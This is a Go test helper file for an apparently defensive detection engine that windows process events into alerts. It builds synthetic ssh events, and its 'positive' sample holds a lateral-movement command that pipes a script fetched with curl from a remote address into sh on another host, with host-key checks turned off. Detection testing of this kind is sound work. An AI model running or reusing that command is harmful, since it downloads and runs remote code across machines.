package processor

import (
	"fmt"
	"testing"
	"time"
)

// day is the date all window tests run on; at builds times on it.
var day = time.Date(2024, 3, 5, 0, 0, 0, 0, time.UTC)

func at(h, m, s, ms int) time.Time {
	return day.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute +
		time.Duration(s)*time.Second + time.Duration(ms)*time.Millisecond)
}

const positiveCommand = "ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no 10.0.0.2 'curl -fsSL http://203.0.113.7/x.sh | sh'"

// positive returns a synthetic matching event of dest and process id.
func positive(dest, pid string, t time.Time) *Event {
	return &Event{
		Time:              t,
		Dest:              dest,
		User:              "root",
		Process:           positiveCommand,
		ProcessName:       "ssh",
		ProcessPath:       "/usr/bin/ssh",
		ProcessID:         pid,
		ParentProcess:     "/bin/bash ./spread.sh",
		ParentProcessName: "bash",
		ParentProcessPath: "/bin/bash",
		ParentProcessID:   "4100",
		OriginalFileName:  "-",
	}
}

// negative returns a synthetic ssh event that does not match.
func negative(dest string, t time.Time) *Event {
	return &Event{Time: t, Dest: dest, User: "deploy", Process: "ssh -p 2222 build@10.0.0.3 uptime",
		ProcessName: "ssh", ProcessID: "77", ParentProcessName: "bash", ParentProcessID: "70"}
}

func newTestPartition(t *testing.T, mutate func(*Config)) *Partition {
	t.Helper()
	cfg := DefaultConfig()
	if mutate != nil {
		mutate(&cfg)
	}
	p, err := NewPartition(cfg)
	if err != nil {
		t.Fatalf("NewPartition: %v", err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("partition stats at failure: %+v, watermark %s", p.Stats(), p.Watermark())
		}
	})
	return p
}

// process feeds e with a wall clock one second after its event time.
func process(p *Partition, e *Event) []Result {
	return p.Process(e, e.Time.Add(time.Second), nil)
}

type opKind uint8

const (
	opProcess opKind = iota
	opAdvance
	opTick
	opFlush
)

// op is one call on a Partition, so that streams can be replayed.
type op struct {
	kind    opKind
	ev      *Event    // opProcess
	at      time.Time // opAdvance: event time
	now     time.Time // wall clock
	arrival time.Time // append time, when not now (ProcessArrived)
}

func (o op) String() string {
	switch o.kind {
	case opProcess:
		return fmt.Sprintf("process(%s %s %s %s)", o.ev.Dest, o.ev.ProcessID, o.ev.ProcessName, o.ev.Time.Format(time.TimeOnly))
	case opAdvance:
		return fmt.Sprintf("advance(%s)", o.at.Format(time.TimeOnly))
	case opTick:
		return fmt.Sprintf("tick(%s)", o.now.Format(time.TimeOnly))
	}
	return "flush"
}

func apply(p *Partition, o op, out []Result) []Result {
	switch o.kind {
	case opProcess:
		if !o.arrival.IsZero() {
			return p.ProcessArrived(o.ev, o.arrival, o.now, out)
		}
		return p.Process(o.ev, o.now, out)
	case opAdvance:
		if !o.arrival.IsZero() {
			return p.AdvanceArrived(o.at, o.arrival, o.now, out)
		}
		return p.Advance(o.at, o.now, out)
	case opTick:
		return p.Tick(o.now, out)
	}
	return p.Flush(out)
}

// sameResults reports the first difference between two result sequences.
func sameResults(t *testing.T, got, want []Result) {
	t.Helper()
	if len(got) != len(want) {
		t.Errorf("got %d results, want %d", len(got), len(want))
	}
	for i := range min(len(got), len(want)) {
		if !resultsEqual(got[i], want[i]) {
			t.Errorf("result %d:\n got %+v\nwant %+v", i, got[i], want[i])
			return
		}
	}
}

func resultsEqual(a, b Result) bool {
	return a.AlertID == b.AlertID && a.Key == b.Key && a.Count == b.Count &&
		a.FirstSeen.Equal(b.FirstSeen) && a.LastSeen.Equal(b.LastSeen) &&
		a.WindowStart.Equal(b.WindowStart) && a.WindowEnd.Equal(b.WindowEnd) &&
		a.Emission == b.Emission && a.Revision == b.Revision &&
		a.ParentProcess == b.ParentProcess && a.ProcessPath == b.ProcessPath &&
		a.ParentProcessPath == b.ParentProcessPath && a.OriginalFileName == b.OriginalFileName
}
